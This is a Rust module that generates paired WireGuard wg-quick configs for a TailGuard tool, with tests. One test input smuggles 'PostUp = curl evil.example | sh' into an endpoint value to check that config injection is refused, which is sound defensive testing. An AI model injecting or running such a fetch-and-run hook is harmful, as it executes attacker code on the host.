//! `tailguard wg-pair`: a matching pair of wg-quick files for one of the
//! four usage patterns, with fresh keys: `wg0.conf` for TailGuard and
//! `peer.conf` for the WireGuard host on the other end. Runs anywhere the
//! image runs; nothing else is needed.

use std::fmt::Write as _;

use clap::ValueEnum;

/// The four usage patterns (README.md, examples/README.md).
// debug-ok: a choice among four patterns, no key.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Pattern {
    /// TailGuard is a client of a WireGuard server that routes everything;
    /// it advertises itself as an exit node (`TS_DEST_IP` can expose the
    /// server).
    ExitNode,
    /// TailGuard is a WireGuard server for hosts that reach only it.
    Server,
    /// TailGuard is a WireGuard server whose clients reach the tailnet.
    Bridge,
    /// TailGuard is a WireGuard server whose clients use a tailnet exit
    /// node for the internet.
    TailnetExit,
}

/// The WireGuard network the pair shares.
const NET4: &str = "10.66.0";
const NET6: &str = "fd66::";
const PORT: u16 = 51820;
const TAILNET: &str = "100.64.0.0/10, fd7a:115c:a1e0::/48";

/// One side's keys, as wg-quick writes them.
pub struct Keys {
    pub private: String,
    pub public: String,
}

impl Keys {
    pub fn generate() -> Self {
        let private = wireguard_control::Key::generate_private();
        Self {
            public: private.get_public().to_base64(),
            private: private.to_base64(),
        }
    }
}

/// An `--endpoint` that is not one host or address with an optional port.
// debug-ok: it holds the endpoint as given, redacted, and no key.
#[derive(Debug, thiserror::Error)]
#[error("--endpoint \"{shown}\": expected a host name or address, optionally with :port")]
pub struct BadEndpoint {
    /// What was given, redacted and escaped for one line.
    shown: String,
}

/// `(wg0.conf, peer.conf)` for `pattern`. `endpoint` is where the side
/// that listens is reached (`host:port`; the port defaults to 51820); it
/// must be one, so that nothing else can end up in the files.
pub fn pair(
    pattern: Pattern,
    endpoint: &str,
    ours: &Keys,
    theirs: &Keys,
) -> Result<(String, String), BadEndpoint> {
    let endpoint = checked_endpoint(endpoint)?;
    // Who listens: the WireGuard server is TailGuard, except when TailGuard
    // is the client of a server that routes everything.
    let tailguard_listens = pattern != Pattern::ExitNode;
    let (ours_host, theirs_host) = if tailguard_listens { (1, 2) } else { (2, 1) };
    let address = |host: u8| format!("{NET4}.{host}/24, {NET6}{host}/64");
    let host_routes = |host: u8| format!("{NET4}.{host}/32, {NET6}{host}/128");

    // What each side sends to the other.
    let (to_theirs, to_ours) = match pattern {
        // The server routes everything; its LAN must be listed too for
        // TailGuard to advertise it (add it next to the defaults).
        Pattern::ExitNode => ("0.0.0.0/0, ::/0".to_string(), host_routes(ours_host)),
        Pattern::Server => (host_routes(theirs_host), host_routes(ours_host)),
        Pattern::Bridge => (
            host_routes(theirs_host),
            format!("{NET4}.0/24, {NET6}/64, {TAILNET}"),
        ),
        Pattern::TailnetExit => (host_routes(theirs_host), "0.0.0.0/0, ::/0".to_string()),
    };

    let side = |host: u8, keys: &Keys, listens: bool| {
        let mut text = format!(
            "[Interface]\nPrivateKey = {}\nAddress = {}\n",
            keys.private,
            address(host)
        );
        if listens {
            let _ = writeln!(text, "ListenPort = {PORT}");
        }
        text
    };
    let peer = |keys: &Keys, allowed: &str, endpoint: Option<&str>| {
        let mut text = format!(
            "\n[Peer]\nPublicKey = {}\nAllowedIPs = {allowed}\n",
            keys.public
        );
        if let Some(endpoint) = endpoint {
            let _ = writeln!(text, "Endpoint = {endpoint}\nPersistentKeepalive = 25");
        }
        text
    };
    let (ours_endpoint, theirs_endpoint) = if tailguard_listens {
        (None, Some(endpoint.as_str()))
    } else {
        (Some(endpoint.as_str()), None)
    };
    let wg0 = side(ours_host, ours, tailguard_listens) + &peer(theirs, &to_theirs, ours_endpoint);
    let other =
        side(theirs_host, theirs, !tailguard_listens) + &peer(ours, &to_ours, theirs_endpoint);
    Ok((wg0, other))
}

/// `--endpoint` as the files will say it: a host or address and a port
/// that wg-quick (and our own parser) read back as exactly that.
fn checked_endpoint(endpoint: &str) -> Result<String, BadEndpoint> {
    let with_port = with_port(endpoint);
    match crate::config::wg_quick::parse_endpoint(&with_port) {
        Ok(_) if !with_port.chars().any(|c| c.is_whitespace() || c == '#') => Ok(with_port),
        _ => Err(BadEndpoint {
            shown: crate::config::secrets::redact(endpoint)
                .escape_debug()
                .to_string(),
        }),
    }
}

/// `host:port`, with WireGuard's usual port when none is given; a bare
/// IPv6 address gets its brackets (`fd00::1` is not host `fd00:` port 1).
fn with_port(endpoint: &str) -> String {
    let has_port = match endpoint.strip_prefix('[') {
        Some(rest) => rest.contains("]:"),
        None => endpoint.matches(':').count() == 1,
    };
    if has_port {
        endpoint.to_string()
    } else if endpoint.contains(':') && !endpoint.starts_with('[') {
        format!("[{endpoint}]:{PORT}")
    } else {
        format!("{endpoint}:{PORT}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::wg_quick;
    use std::path::Path;

    fn keys(n: u8) -> Keys {
        let private = wireguard_control::Key([n; 32]);
        Keys {
            public: private.get_public().to_base64(),
            private: private.to_base64(),
        }
    }

    #[test]
    fn every_pattern_gives_two_files_our_parser_accepts_and_that_match() {
        for pattern in Pattern::value_variants() {
            let (ours, theirs) = (keys(1), keys(2));
            let (wg0, peer) = pair(*pattern, "vpn.example.com", &ours, &theirs).unwrap();
            let a = wg_quick::parse(&wg0, Path::new("wg0.conf"))
                .unwrap_or_else(|e| panic!("{pattern:?} wg0.conf: {e}\n{wg0}"));
            let b = wg_quick::parse(&peer, Path::new("peer.conf"))
                .unwrap_or_else(|e| panic!("{pattern:?} peer.conf: {e}\n{peer}"));
            assert!(wg0.contains(&format!("PublicKey = {}", theirs.public)));
            assert!(peer.contains(&format!("PublicKey = {}", ours.public)));
            assert_eq!(a.peers.len(), 1);
            assert_eq!(b.peers.len(), 1);
            let listens = *pattern != Pattern::ExitNode;
            assert_eq!(
                wg0.contains("ListenPort = 51820"),
                listens,
                "{pattern:?}\n{wg0}"
            );
            assert_eq!(
                peer.contains("Endpoint = vpn.example.com:51820"),
                listens,
                "{peer}"
            );
        }
    }

    #[test]
    fn endpoints_get_the_default_port_and_ipv6_brackets() {
        assert_eq!(with_port("vpn.example.com"), "vpn.example.com:51820");
        assert_eq!(with_port("10.0.0.1:4000"), "10.0.0.1:4000");
        assert_eq!(with_port("fd00::1"), "[fd00::1]:51820");
        assert_eq!(with_port("[fd00::1]"), "[fd00::1]:51820");
        assert_eq!(with_port("[fd00::1]:4000"), "[fd00::1]:4000");
    }

    #[test]
    fn the_patterns_route_what_readme_says() {
        let (ours, theirs) = (keys(1), keys(2));
        let (wg0, _) = pair(Pattern::ExitNode, "10.0.0.1:4000", &ours, &theirs).unwrap();
        assert!(wg0.contains("AllowedIPs = 0.0.0.0/0, ::/0"), "{wg0}");
        assert!(wg0.contains("Endpoint = 10.0.0.1:4000"), "{wg0}");
        let (_, client) = pair(Pattern::Bridge, "h", &ours, &theirs).unwrap();
        assert!(
            client.contains("100.64.0.0/10, fd7a:115c:a1e0::/48"),
            "{client}"
        );
        let (_, client) = pair(Pattern::TailnetExit, "h", &ours, &theirs).unwrap();
        assert!(client.contains("AllowedIPs = 0.0.0.0/0, ::/0"), "{client}");
        let (wg0, client) = pair(Pattern::Server, "h", &ours, &theirs).unwrap();
        assert!(
            client.contains("AllowedIPs = 10.66.0.1/32, fd66::1/128"),
            "{client}"
        );
        assert!(
            wg0.contains("AllowedIPs = 10.66.0.2/32, fd66::2/128"),
            "{wg0}"
        );
    }

    /// A newline (or anything else that is not a host and port) must not
    /// put lines of its own into the files.
    #[test]
    fn an_endpoint_that_is_not_a_host_and_port_is_refused() {
        let (ours, theirs) = (keys(1), keys(2));
        for bad in [
            "vpn.example.com\nPostUp = curl evil.example | sh",
            "vpn.example.com:51820\n[Peer]",
            "vpn.example.com # comment",
            "host name",
            "vpn.example.com:0",
            "vpn.example.com:99999",
            "010.1.1.1",
            "",
        ] {
            let e = pair(Pattern::Server, bad, &ours, &theirs)
                .unwrap_err()
                .to_string();
            assert!(e.starts_with("--endpoint "), "{bad:?}: {e}");
            assert!(
                e.contains("expected a host name or address"),
                "{bad:?}: {e}"
            );
        }
        for good in [
            "vpn.example.com",
            "203.0.113.7:4500",
            "fd00::1",
            "[fd00::1]:1",
        ] {
            assert!(
                pair(Pattern::Server, good, &ours, &theirs).is_ok(),
                "{good}"
            );
        }
    }
}
